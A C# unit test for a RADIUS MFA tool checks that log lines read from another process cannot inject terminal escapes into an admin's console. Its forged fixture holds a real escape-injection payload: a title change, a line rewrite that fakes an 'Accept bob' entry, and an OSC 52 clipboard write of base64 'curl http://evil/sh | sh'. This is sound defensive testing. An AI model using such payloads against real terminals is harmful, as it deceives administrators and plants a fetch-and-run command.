using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
using Microsoft.Extensions.Logging;
using RasMfa.Engine.Hosting;
using RasMfa.Engine.Hosting.Control;
using Xunit;

namespace RasMfa.Engine.Tests.Review
{
    /// <summary>
    /// Review R5: Get-RasMfaRadiusServer -Log reads another process's listener through its control channel, and root's
    /// session reads every account's (UnixRuntimeFolders.ToSearch; without -ProcessId the only one running). The lines come
    /// back as that process wrote them: an unprivileged user's listener (or a program that only speaks the protocol on its
    /// own socket) can put ANSI escapes (OSC 52 writes the clipboard, CSI 2K and CR rewrite the line shown) and line breaks
    /// into the admin's console. The listener escapes what the wire sends; the reader trusts the listener.
    /// </summary>
    public sealed class ReviewR5RemoteLogTests
    {
        [Fact]
        public void A_log_line_read_from_another_process_cannot_put_terminal_escapes_or_line_breaks_on_the_admins_console()
        {
            var forged = new LogEntry(1, new DateTime(2026, 11, 29, 12, 0, 0, DateTimeKind.Utc), LogLevel.Information,
                "RasMfa.Mfa\u001b]0;pwned\u0007", "Accept alice at vpn\u001b[2K\r\nAccept bob at vpn\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\u0007");
            var transport = new OneAnswerTransport(ControlAnswer.EntryLine(forged));

            var entries = ControlClient.Log(transport, new ControlAddress(4242, "/tmp/rasmfa-1001/rasmfa-4242.sock"), 0, follow: false, CancellationToken.None).ToList();

            var entry = Assert.Single(entries);
            foreach (var shown in new[] { entry.Category, entry.Message })
                Assert.True(shown.IndexOfAny(new[] { '\u001b', '\u0007', '\r', '\n' }) < 0,
                    $"shown as the other process sent it: {shown.Replace("\u001b", "<ESC>").Replace("\u0007", "<BEL>").Replace("\r", "<CR>").Replace("\n", "<LF>")}");
        }

        /// <summary>A control endpoint that answers any request with the given lines and closes.</summary>
        private sealed class OneAnswerTransport : IControlTransport
        {
            private readonly string _answer;

            public OneAnswerTransport(string answer) => _answer = answer;

            public IControlEndpoint Open(int processId) => throw new NotSupportedException();

            public IReadOnlyList<ControlAddress> Discover() => Array.Empty<ControlAddress>();

            public Task<Stream> ConnectAsync(ControlAddress address, CancellationToken cancellation) =>
                Task.FromResult<Stream>(new AnswerStream(Encoding.UTF8.GetBytes(_answer)));
        }

        private sealed class AnswerStream : Stream
        {
            private readonly MemoryStream _answer;

            public AnswerStream(byte[] answer) => _answer = new MemoryStream(answer);

            public override bool CanRead => true;
            public override bool CanSeek => false;
            public override bool CanWrite => true;
            public override long Length => throw new NotSupportedException();
            public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }
            public override void Flush() { }
            public override int Read(byte[] buffer, int offset, int count) => _answer.Read(buffer, offset, count);
            public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
            public override void SetLength(long value) => throw new NotSupportedException();
            public override void Write(byte[] buffer, int offset, int count) { }
        }
    }
}
